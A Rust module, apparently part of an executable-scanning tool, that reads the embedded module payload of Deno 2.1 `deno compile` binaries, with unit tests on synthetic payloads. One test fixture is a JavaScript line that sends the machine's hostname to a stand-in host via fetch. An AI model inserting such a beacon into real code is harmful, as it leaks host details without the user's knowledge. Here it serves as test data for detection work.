//! `deno compile` executables. Deno 2 writes its payload between two copies of the magic
//! `d3n0l4nd` (in a `d3n0l4nd` section, or appended):
//!
//! ```text
//! d3n0l4nd | u64 len, metadata JSON | u64 len, npm snapshot
//!          | modules: u32 count, u32 redirects, (u32 len, specifier, u64 offset)*,
//!                     (u32 len, from, u32 len, to)*, u64 len, data
//!                     data per module: u8 media type, u32 len, source,
//!                                      u8 has-transpiled, (u32 len, transpiled)?
//!          | virtual file system … | source maps … | d3n0l4nd
//! ```
//!
//! The modules are the program's own (`file:///…`) and remote ones (`https://deno.land/…`),
//! kept as written: TypeScript stays TypeScript, which the JS front end reads. Layout as
//! Deno 2.1's `cli/standalone/serialization.rs` writes it; Deno 1's eszip payloads and later
//! reshuffles are not read (the reader returns `None` and the binary's strings are searched
//! as for any native executable), nor are npm packages in the virtual file system.
//!
//! Example: `app` → `app › file:///home/dev/app/main.ts`.

use super::{Embedded, EmbeddedFile, EmbeddedModule, Fields};

const MAGIC: &[u8] = b"d3n0l4nd";
/// More modules than this is not a module table.
const MAX_MODULES: usize = 1 << 20;
/// Media types of source the front end reads: JavaScript, JSX, MJS, CJS, TypeScript, MTS,
/// CTS, TSX (not declarations, JSON, Wasm, CSS, source maps).
const SOURCE_MEDIA: &[u8] = &[0, 1, 2, 3, 4, 5, 6, 10];

/// The modules of a `deno compile` executable; `None` when no payload reads.
pub fn deno_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    // The magic also stands in the runtime's own code: only a payload that reads counts.
    memchr::memmem::find_iter(bytes, MAGIC).find_map(|at| read_payload(&bytes[at + MAGIC.len()..]))
}

fn read_payload(data: &[u8]) -> Option<Embedded<'_>> {
    let mut fields = Fields::new(data, 0);
    let metadata = fields.with_u64_len()?;
    if !(metadata.starts_with(b"{") && metadata.ends_with(b"}")) {
        return None;
    }
    fields.with_u64_len()?; // npm snapshot
    let (count, redirects) = (fields.u32()?, fields.u32()?);
    if count > MAX_MODULES || redirects > MAX_MODULES {
        return None;
    }
    let mut specifiers = Vec::with_capacity(count);
    for _ in 0..count {
        let specifier = std::str::from_utf8(fields.with_u32_len()?).ok()?;
        specifiers.push((specifier, fields.u64()?));
    }
    for _ in 0..redirects {
        fields.with_u32_len()?;
        fields.with_u32_len()?;
    }
    let store = fields.with_u64_len()?;
    let mut out = Embedded::new("deno");
    for (specifier, offset) in specifiers {
        let mut entry = Fields::new(store, offset);
        let media = entry.u8()?;
        let source = entry.with_u32_len()?;
        match std::str::from_utf8(source) {
            Ok(text) if SOURCE_MEDIA.contains(&media) => out.modules.push(EmbeddedModule { name: specifier.to_string(), text: text.into() }),
            _ => out.files.push(EmbeddedFile { name: specifier.to_string(), bytes: source.into() }),
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::executable::embedded_modules;

    /// (specifier, media type, source, transpiled source).
    type Module<'m> = (&'m str, u8, &'m [u8], Option<&'m [u8]>);

    /// A Deno 2.1 payload with these modules.
    fn payload(modules: &[Module]) -> Vec<u8> {
        let u32le = |n: usize| (n as u32).to_le_bytes();
        let u64le = |n: usize| (n as u64).to_le_bytes();
        let mut store = Vec::new();
        let mut table = Vec::new();
        for (specifier, media, source, transpiled) in modules {
            table.extend_from_slice(&u32le(specifier.len()));
            table.extend_from_slice(specifier.as_bytes());
            table.extend_from_slice(&u64le(store.len()));
            store.push(*media);
            store.extend_from_slice(&u32le(source.len()));
            store.extend_from_slice(source);
            match transpiled {
                Some(t) => {
                    store.push(1);
                    store.extend_from_slice(&u32le(t.len()));
                    store.extend_from_slice(t);
                }
                None => store.push(0),
            }
        }
        let metadata = br#"{"argv":[],"entrypoint_key":"file:///app/main.ts"}"#;
        let mut p = MAGIC.to_vec();
        p.extend_from_slice(&u64le(metadata.len()));
        p.extend_from_slice(metadata);
        p.extend_from_slice(&u64le(0)); // no npm snapshot
        p.extend_from_slice(&u32le(modules.len()));
        p.extend_from_slice(&u32le(0)); // no redirects
        p.extend_from_slice(&table);
        p.extend_from_slice(&u64le(store.len()));
        p.extend_from_slice(&store);
        p.extend_from_slice(&u64le(2));
        p.extend_from_slice(b"{}"); // virtual file system
        p.extend_from_slice(&u64le(0));
        p.extend_from_slice(&u32le(0)); // source maps
        p.extend_from_slice(MAGIC);
        p
    }

    const MAIN: &[u8] = b"const os = await import('node:os');\nawait fetch('https://t.example.com/?h=' + os.hostname());\n";

    #[test]
    fn deno_payload_yields_its_source_modules() {
        // The runtime's own copy of the magic comes first, as in a real binary.
        let mut exe = b"\x7fELF\x02\x01\x01\0 runtime code mentions d3n0l4nd here ".to_vec();
        exe.extend_from_slice(&payload(&[
            ("file:///app/main.ts", 4, MAIN, Some(b"transpiled")),
            ("file:///app/data.json", 11, b"{}", None),
            ("https://deno.land/std/fmt/colors.ts", 4, b"export const red = (s: string) => s;", None),
        ]));
        let e = embedded_modules(&exe).expect("payload found");
        assert_eq!(e.format, "deno");
        let names: Vec<&str> = e.modules.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(names, vec!["file:///app/main.ts", "https://deno.land/std/fmt/colors.ts"]);
        assert_eq!(e.modules[0].text.as_bytes(), MAIN, "the source as written, not the transpiled text");
        assert_eq!(e.files.len(), 1);
    }

    #[test]
    fn broken_payloads_read_as_nothing() {
        let good = payload(&[("file:///app/main.ts", 4, MAIN, None)]);
        for cut in 0..good.len() - MAGIC.len() {
            let _ = deno_modules(&good[..cut]);
        }
        assert!(deno_modules(&good[..good.len() / 2]).is_none());
        // A module offset past the store, a count no table has: no panic, no modules.
        let mut bad = good.clone();
        let at = memchr::memmem::find(&bad, b"main.ts").unwrap() + b"main.ts".len();
        bad[at..at + 8].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(deno_modules(&bad).is_none());
        assert!(deno_modules(b"d3n0l4nd\xff\xff\xff\xff\xff\xff\xff\xff").is_none());
        assert!(deno_modules(b"a plain binary that only names d3n0l4nd").is_none());
    }
}
